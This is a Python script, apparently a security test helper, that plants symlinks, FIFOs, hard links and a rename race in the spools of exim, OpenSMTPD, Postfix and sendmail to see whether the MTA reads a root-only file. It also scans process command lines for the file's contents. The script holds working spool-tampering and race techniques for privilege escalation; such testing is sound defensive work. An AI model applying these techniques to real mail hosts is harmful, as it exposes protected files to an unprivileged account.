# Copyright (c) the mailops.postmaster contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Runs on a mail host: what the account of an MTA may do to its spool, to get at a file that only root can read.

Called with the name of the MTA, and that of the file. It copies a message of the queue a few times, and puts something
else in the place of a file of each copy. Of the last one it exchanges the file all the time, until STOP is there;
meanwhile it looks for the words of the file on all command lines, and for a decoy, so that it is known to see. Prints
what it has planted.
"""

from __future__ import annotations

import glob
import os
import pwd
import re
import stat
import sys
import time

STOP, SEEN, DECOY = "/run/planted.stop", "/run/planted.seen", "/run/planted.decoy"
PAUSE = 0.02  # seconds between two rounds: the MTA that is changed has to work, too
LONG = 900  # seconds after which it ends in any case
# the account; where the keys of messages are; what comes before and behind the id in names; the body's name
QUEUES = {
    "exim": ("Debian-exim", "/var/spool/exim4/input/*-H", "{}-D"),
    "opensmtpd": ("opensmtpq", "/var/spool/smtpd/queue/*/????????", "{}/message"),
    "postfix": ("postfix", "/var/spool/postfix/deferred/**/*", "{}"),
    "sendmail": ("smmta", "/var/spool/mqueue/qf*", "df{}"),
}
KINDS = {
    "link": lambda path, secret: os.symlink(secret, path),
    "FIFO": lambda path, _secret: os.mkfifo(path),
    "link to a device": lambda path, _secret: os.symlink("/dev/zero", path),
    "directory": lambda path, _secret: os.mkdir(path),
    "hard link": os.link,
    "race": None,
}
LETTERS = "abcdef"  # one for each, in the place of a letter of the id


def files(key):
    """The files of a message, by the name of its key."""
    if os.path.isdir(key):
        return [os.path.join(key, name) for name in os.listdir(key)]
    folder, name = os.path.split(key)
    beside = {"-H": [name[:-1] + "D"], "qf": ["df" + name[2:]]}
    found = beside.get(name[-2:], beside.get(name[:2], []))
    return [key, *(os.path.join(folder, one) for one in found)]


def copied(key, name, new):
    for path in files(key):
        with open(path, "rb") as file:
            data, mode = file.read(), os.fstat(file.fileno()).st_mode
        there = path.replace(name, new)
        os.makedirs(os.path.dirname(there), mode=0o700, exist_ok=True)
        with open(there, "wb") as file:
            file.write(
                re.sub(rb"X-Token: [0-9a-f]{24}", b"X-Token: " + b"0" * 24, data.replace(name.encode(), new.encode()))
            )
        os.chmod(there, stat.S_IMODE(mode))


def exchange(path, secret, until):
    """Put a link in the place of a file, and the file again."""
    was, bait = path + ".was", path + ".bait"
    os.symlink(secret, bait)
    while time.monotonic() < until and not os.path.exists(STOP):
        for one, another in ((path, was), (bait, path), (path, bait), (was, path)):
            if os.path.lexists(one):
                try_rename(one, another)
        time.sleep(PAUSE)


def try_rename(one, another):
    try:
        os.rename(one, another)
    except OSError:
        return  # it was taken away meanwhile


def watch(word, until):
    """Note the command lines in which a word is."""
    while time.monotonic() < until and not os.path.exists(STOP):
        for path in glob.glob("/proc/[0-9]*/cmdline"):
            line = read(path)
            for sought, place in ((word, SEEN), (b"the-decoy", DECOY)):
                if sought in line:
                    with open(place, "ab") as file:
                        file.write(line + b"\n")
        time.sleep(PAUSE)


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read()
    except OSError:
        return b""


def apart(work, uid, gid):
    """Work as an account, in a process that nobody waits for."""
    if os.fork():
        return
    os.setsid()
    null = os.open(os.devnull, os.O_RDWR)
    for handle in (0, 1, 2):
        os.dup2(null, handle)
    os.setgroups([])
    os.setgid(gid)
    os.setuid(uid)
    try:
        work()
    finally:
        os._exit(0)


def main():
    mta, secret = sys.argv[1:]
    account, keys, body = QUEUES[mta]
    owner, until = pwd.getpwnam(account), time.monotonic() + LONG
    found = [path for path in glob.glob(keys, recursive=True) if os.path.isdir(path) == (mta == "opensmtpd")]
    if not found:
        sys.exit("there is no message in the queue yet")
    key = min(found)
    name = re.search(r"(?:qf|.*/)?([0-9A-Za-z-]+?)(?:-H)?$", os.path.basename(key))[1]
    for (kind, make), letter in zip(KINDS.items(), LETTERS):
        new = name[:2] + (letter if name[2] != letter else "0") + name[3:]
        root = os.geteuid()
        folder = os.path.dirname(key)
        path = os.path.join(folder, body.format(new))
        copies = [os.path.join(folder, one.format(new)) for one in ("{}", "{}-H", "qf{}")]
        copied(key, name, new)
        for copy in files(next(one for one in copies if os.path.lexists(one))) + copies[:1] * (mta == "opensmtpd"):
            os.chown(copy, owner.pw_uid, owner.pw_gid)
        if not make:
            apart(lambda path=path: exchange(path, secret, until), owner.pw_uid, owner.pw_gid)
            print(f"{kind}: {new}")
            continue
        os.unlink(path)
        if make is not os.link:  # which the kernel forbids, where it is set to, and some are not
            os.seteuid(owner.pw_uid)
        make(*((secret, path) if make is os.link else (path, secret)))
        os.seteuid(root)
        print(f"{kind}: {new}")
    word = read(secret).strip()
    apart(lambda: watch(word, until), 0, 0)
    apart(lambda: os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(5)", "the-decoy"]), 0, 0)


main()
